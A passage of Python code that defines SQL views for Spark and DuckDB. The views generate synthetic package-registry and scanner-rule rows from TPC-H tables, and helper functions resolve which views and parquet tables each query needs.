    doc_cases = " ".join(f"WHEN {i} THEN {d}" for i, d in docs.items())
    v["v_registry"] = f"""v_registry AS (
      SELECT CASE k % 6 WHEN 0 THEN 'pypi' WHEN 1 THEN 'npm' WHEN 2 THEN 'pub' WHEN 3 THEN 'crates' WHEN 4 THEN 'cocoapods' ELSE 'jsr' END AS ecosystem,
        k, name, CASE WHEN k % 6 = 4 OR (k % 4 = 2 AND k % 6 = 2) OR (k % 6 = 3 AND k % 9 = 0) THEN version ELSE '' END AS version,
        CASE k % 6 {doc_cases} END AS doc FROM v_packages)"""
    v["v_user_rules"] = """v_user_rules AS (
      SELECT CASE WHEN s_suppkey % 10 = 0 THEN 'eval-call' ELSE concat('site-', cast(s_suppkey % 40 AS varchar(20))) END AS id,
        CASE WHEN s_suppkey % 7 = 0 THEN NULL ELSE concat('token', cast(s_suppkey AS varchar(20))) END AS pattern,
        CASE s_suppkey % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS severity,
        CASE s_suppkey % 3 WHEN 0 THEN 'install_script' WHEN 1 THEN 'source' ELSE 'any' END AS scope,
        CASE s_suppkey % 3 WHEN 0 THEN 'npm' WHEN 1 THEN 'pypi' END AS ecosystem, s_name AS description,
        s_suppkey % 2 = 0 AS case_sensitive, s_suppkey AS ord
      FROM supplier)"""
    return v


_SPARK = views("spark")
_DUCK = views("duckdb")


def needed(sql: str, defs: dict[str, str]) -> list[str]:
    """Views a statement refers to, directly or through other views, in definition order."""
    found: set[str] = set()
    todo = [sql]
    while todo:
        text = todo.pop()
        for name in defs:
            if name not in found and re.search(rf"\b{name}\b", text):
                found.add(name)
                todo.append(defs[name])
    return [n for n in defs if n in found]


def with_views(sql: str, extra: str = "") -> str:
    """DuckDB statement: the views it needs, then ``extra`` CTEs, then the query."""
    ctes = [_DUCK[n] for n in needed(extra + sql, _DUCK)] + ([extra] if extra else [])
    return f"WITH {', '.join(ctes)} {sql}" if ctes else sql


def tables(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def spark_view(spark: SparkSession, sf_dir: str, name: str, dealt: str | None = None) -> DataFrame:
    """One view as a DataFrame; only the tables it needs are read.

    ``dealt`` names a table whose narrow rows are dealt to all tasks as they are read: a file of a few megabytes is one task, whatever its rows grow to.
    """
    names = needed(f"SELECT * FROM {name}", _SPARK)
    text = " ".join(_SPARK[n] for n in names)
    bases = sorted((t for t in TABLES if re.search(rf"\b{t}\b", text)), key=LARGEST_FIRST.index)
    hint = {dealt: "/*+ REPARTITION */ "}
    ctes = [f"{t} AS (SELECT {hint.get(t, '')}* FROM parquet.`{sf_dir}/{t}.parquet`)" for t in bases] + [_SPARK[n] for n in names]
    return spark.sql(f"WITH {', '.join(ctes)} SELECT * FROM {name}")
